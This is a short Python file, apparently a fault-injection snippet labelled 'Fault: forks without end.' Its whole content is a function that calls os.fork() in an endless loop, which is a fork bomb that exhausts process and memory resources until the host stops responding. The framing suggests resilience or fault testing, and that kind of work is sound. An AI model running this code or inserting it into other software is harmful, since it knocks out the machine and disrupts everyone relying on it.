"""Fault: forks without end."""
import os


def kernel(self):
    while True:
        os.fork()
